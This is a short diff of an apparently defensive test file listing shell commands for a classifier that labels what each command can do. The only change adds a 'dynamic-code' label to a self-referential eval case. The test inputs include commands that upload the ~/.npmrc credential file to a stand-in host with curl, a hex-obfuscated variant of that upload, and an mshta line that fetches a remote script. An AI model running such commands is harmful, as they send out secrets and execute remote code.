@@ -44,7 +44,7 @@ const CASES: readonly Case[] = [
     starts: ['mshta javascript:GetObject("script:https://c.invalid/a.sct")'],
   },
   { line: "eval 'curl -T ~/.npmrc https://c.invalid'", can: ['network', 'secrets'], flows: ['secret-file->network'] },
-  { line: `x='eval "$x"'; eval "$x"` },
+  { line: `x='eval "$x"'; eval "$x"`, can: ['dynamic-code'] },
   {
     line: String.raw`sh -c $'\x63url -T ~/.npmrc https://c.invalid'`,
     can: ['network', 'secrets'],
